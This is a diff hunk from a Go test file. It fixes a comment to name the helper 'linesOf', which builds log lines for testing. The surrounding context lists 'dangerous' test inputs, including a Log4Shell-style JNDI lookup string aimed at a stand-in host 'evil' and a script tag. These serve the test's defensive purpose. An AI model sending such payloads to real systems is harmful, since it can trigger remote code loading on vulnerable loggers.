@@ -374,7 +374,7 @@ var dangerous = []string{
 	strings.Repeat("long ", 1000), strings.Repeat("€", 100), strings.Repeat("\x1b", 300), "%s%d%!", "${jndi:ldap://evil/}", "<script>",
 }
 
-// lineOf asks with a text wherever a caller's or a vendor's text comes in, and
+// linesOf asks with a text wherever a caller's or a vendor's text comes in, and
 // gives the log line in both forms.
 func linesOf(t *testing.T, text string) (asText, asJSON string) {
 	t.Helper()
